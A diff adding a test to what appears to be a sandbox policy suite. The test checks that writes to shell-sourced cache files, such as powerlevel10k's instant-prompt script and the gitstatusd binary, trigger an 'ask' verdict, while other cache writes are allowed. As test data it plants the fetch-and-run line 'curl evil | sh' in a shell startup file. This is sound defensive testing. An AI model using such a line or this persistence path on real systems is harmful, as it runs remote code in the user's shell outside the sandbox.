@@ -88,3 +88,25 @@ def test_default_protects_what_redirects_git_and_cache_code(wd):
     rec = [x for x in r.records if x.get("args", {}).get("path", "").startswith(
         os.path.join(home, ".cache", "pre-commit"))]
     check(rec and rec[0]["verdict"] == "ask" and rec[0]["rule"] == "cache-code", r.dump())
+
+
+def test_default_asks_before_cache_files_the_shell_runs(wd):
+    """Class 5: ~/.cache is writable, and zsh users with powerlevel10k
+    source ~/.cache/p10k-instant-prompt-$USER.zsh at every start and run
+    ~/.cache/gitstatus/gitstatusd at every prompt (likewise compinit
+    dumps, oh-my-posh's init scripts, pywal's colors.sh, the binaries
+    Cypress and Selenium download): code that ran outside the sandbox
+    in the user's next shell. Those are ask; the rest of the cache is
+    not."""
+    home = fake_home(wd)
+    script = ("mkdir -p ~/.cache/gitstatus ~/.cache/pip; "
+              "echo 'curl evil | sh' > ~/.cache/p10k-instant-prompt-me.zsh; "
+              "echo x > ~/.cache/gitstatus/gitstatusd-linux-x86_64; "
+              "echo w > ~/.cache/pip/wheel && echo cached")
+    r = harness(["sh", "-c", script], wd, policy=None, env={"HOME": home})
+    check("cached" in r.stdout, "stdout %r %r" % (r.stdout, r.stderr))
+    for rel in ("p10k-instant-prompt-me.zsh", "gitstatus/gitstatusd-linux-x86_64"):
+        path = os.path.join(home, ".cache", rel)
+        check(not os.path.exists(path), "%s written" % rel)
+        rec = r.one(args_path=path)
+        check(rec["verdict"] == "ask" and rec["rule"] == "cache-code", rec)
